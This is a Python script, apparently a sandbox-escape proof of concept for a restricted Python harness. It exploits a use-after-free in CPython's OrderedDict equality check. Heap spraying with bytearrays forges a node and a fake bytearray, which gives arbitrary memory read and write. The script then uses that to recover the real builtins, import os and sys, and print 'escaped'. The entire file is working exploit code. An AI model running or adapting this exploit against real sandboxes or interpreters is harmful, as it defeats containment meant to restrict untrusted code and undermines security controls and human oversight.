# technique: OrderedDict == OrderedDict: _odict_keys_equal walks raw _ODictNode pointers across key __eq__; __eq__ clears the left dict (nodes PyMem_Free'd), bytearray buffers refill the 32-byte node blocks with a fake node whose `next` points at a fake node (in a bytes) whose key is a fake bytearray-subclass object -> BA.__eq__ receives it -> fake bytearray (ob_bytes 0, size 2**60) -> arbitrary R/W -> real builtins/os/sys
# expect: any
import collections
orepr = getattr(object, "__repr__")
def addr(o):
    return int(orepr(o).split(" at ")[1][:-1], 16)
def q(v):
    return v.to_bytes(8, "little")
got = []
class BA(bytearray):
    def __eq__(self, other):
        got.append(self)
        return False
    __hash__ = None
FB = q(1 << 40) + q(addr(BA)) + q(1 << 60) * 2 + bytes(40)          # fake PyByteArrayObject (+ dict/weaklist)
NODE = q(addr(FB) + 32) + q(0) + q(0) + q(0)                       # fake _ODictNode: key=FB data, next=NULL
spray_content = q(0) + q(0) + q(addr(NODE) + 32) + q(0)[:7]         # 31 bytes -> 32-byte block: next=&NODE
spray = []
cnt = [0]
class K:
    def __init__(self, v):
        self.v = v
    def __hash__(self):
        return hash(self.v)
    def __eq__(self, other):
        cnt[0] += 1
        if cnt[0] == 5:                 # first call from _odict_keys_equal (4 came from dict_equal)
            a.clear()                   # frees every node of `a`, including the one being walked
            for _ in range(300):
                spray.append(bytearray(spray_content))
        return isinstance(other, K) and self.v == other.v
a = collections.OrderedDict((K(i), i) for i in range(4))
b = collections.OrderedDict((K(i), i) for i in range(4))
print("a == b:", a == b)
W = got[0]
print("fake object:", type(W), hex(len(W)))
def r64(a):
    return int.from_bytes(W[a:a+8], "little")
def w64(a, v):
    W[a:a+8] = v.to_bytes(8, "little")
def mat(a):
    L = [None]
    items = r64(addr(L) + 24)
    w64(a, r64(a) + 1)
    w64(items, a)
    return L[0]
bm = mat(r64(addr(print) + 24))            # PyCFunctionObject.m_self of print
print("real builtins module:", bm, type(bm))
bdict = mat(r64(addr(bm) + 16))           # PyModuleObject.md_dict
os = bdict["__import__"]("os")
sys = bdict["__import__"]("sys")
print("os:", os, "pid", os.getpid())
print("harness:", sys.modules.get("_safepy_harness"))
"escaped"
